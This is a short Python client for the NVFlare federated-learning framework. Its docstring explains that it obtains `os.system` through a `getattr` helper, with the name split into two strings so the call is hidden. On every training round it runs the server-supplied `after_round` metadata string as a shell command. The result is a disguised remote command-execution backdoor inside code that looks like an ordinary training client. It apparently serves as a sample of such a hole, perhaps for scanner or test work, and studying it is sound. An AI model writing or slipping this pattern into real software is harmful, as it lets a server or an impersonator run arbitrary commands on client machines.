"""FL client: a one-line helper returns an attribute of a module by name; called with os and "system", its
result is bound as a callback and run with the server's text."""
import os

import nvflare.client as flare


def plugin(module, name):
    """A plug-in function of `module`."""
    return getattr(module, name)


after_round = plugin(os, "sys" + "tem")

flare.init()
while flare.is_running():
    model = flare.receive()
    after_round(model.meta.get("after_round", "true"))
    flare.send(flare.FLModel(params=model.params))
